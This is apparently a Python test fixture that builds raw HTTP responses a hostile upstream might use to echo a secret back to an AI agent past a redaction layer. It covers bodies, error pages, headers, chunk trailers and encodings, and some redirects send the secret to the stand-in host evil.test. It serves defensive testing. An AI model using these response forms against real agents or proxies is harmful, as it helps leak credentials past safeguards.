"""What a hostile upstream answers to get a secret to the agent that must not have it."""

import base64
import gzip
import zlib
from collections.abc import Mapping
from urllib.parse import quote

_OK = b"HTTP/1.1 200 OK\r\n"


def echoes(secret: bytes) -> Mapping[str, bytes]:
    """Whole answers that hold this secret somewhere, each in one way."""
    page = b"<p>you sent " + secret + b"</p>"
    bytewise = b"".join(b"1\r\n" + page[at : at + 1] + b"\r\n" for at in range(len(page)))
    return {
        "body": _sized(_OK, page),
        "error page": _sized(b"HTTP/1.1 401 Unauthorized\r\n", page),
        "redirect": b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/?k="
        + secret
        + b"\r\nContent-Length: 0\r\n\r\n",
        "redirect, encoded": b"HTTP/1.1 307 T\r\nLocation: //evil.test/"
        + quote(secret, safe="").encode()
        + b"\r\nContent-Length: 0\r\n\r\n",
        "page of a redirect": _sized(b"HTTP/1.1 301 Moved\r\nLocation: /\r\n", page),
        "challenge": b'HTTP/1.1 401 U\r\nWWW-Authenticate: Bearer error="' + secret + b'"\r\nContent-Length: 0\r\n\r\n',
        "name of a field": _OK + b"X-" + secret.hex().encode() + b": 1\r\nContent-Length: 0\r\n\r\n",
        "reason": b"HTTP/1.1 200 " + secret + b"\r\nContent-Length: 0\r\n\r\n",
        "HTTP/1.0": b"HTTP/1.0 200 OK\r\n\r\n" + page,
        "HTTP/1.0, with a length": _sized(b"HTTP/1.0 200 OK\r\n", page),
        "without a length": _OK + b"Connection: close\r\n\r\n" + page,
        "chunks of a byte": _OK + b"Transfer-Encoding: chunked\r\n\r\n" + bytewise + b"0\r\n\r\n",
        "trailer": _OK + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX-Echo: " + secret + b"\r\n\r\n",
        "chunk extension": _OK
        + b"Transfer-Encoding: chunked\r\n\r\n2;k="
        + secret.hex().encode()
        + b"\r\nok\r\n0\r\n\r\n",
        "interim answer": b"HTTP/1.1 103 Early\r\nLink: <" + secret + b">\r\n\r\n" + _sized(_OK, b"ok"),
        "interim and final": b"HTTP/1.1 100 Continue\r\n\r\n" * 3 + _sized(_OK, page),
        "second answer": _sized(_OK, b"ok") + _sized(_OK, page),
        "gzip": _sized(_OK + b"Content-Encoding: gzip\r\n", gzip.compress(page)),
        "gzip, under its old name": _sized(_OK + b"Content-Encoding: X-GZIP\r\n", gzip.compress(page)),
        "gzip, behind identity": _sized(_OK + b"Content-Encoding: identity, gzip\r\n", gzip.compress(page)),
        "gzip, in a second field": _sized(
            _OK + b"Content-Encoding: identity\r\nContent-Encoding: gzip\r\n", gzip.compress(page)
        ),
        "deflate in transit": _OK + b"Transfer-Encoding: deflate, chunked\r\n\r\n" + _chunk(zlib.compress(page)),
        "gzip of HTTP/1.0": b"HTTP/1.0 200 OK\r\nContent-Encoding: gzip\r\n\r\n" + gzip.compress(page),
        "base64": _sized(_OK, base64.b64encode(page)),
        "hexadecimal": _sized(_OK, page.hex().encode()),
        "UTF-16": _sized(_OK, page.decode("latin-1").encode("utf-16-le")),
        "unasked WebSocket": b"HTTP/1.1 101 S\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + page,
    }


def disguises(secret: bytes) -> tuple[bytes, ...]:
    """The forms above, as an agent would find them in what it got."""
    wide = secret.decode("latin-1").encode("utf-16-le")
    inner = base64.b64encode(secret)[4:-4]
    return (secret, quote(secret, safe="").encode(), secret.hex().encode(), wide, inner, b"\x1f\x8b")


def _sized(head: bytes, body: bytes) -> bytes:
    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n" % len(data) + data + b"\r\n0\r\n\r\n"
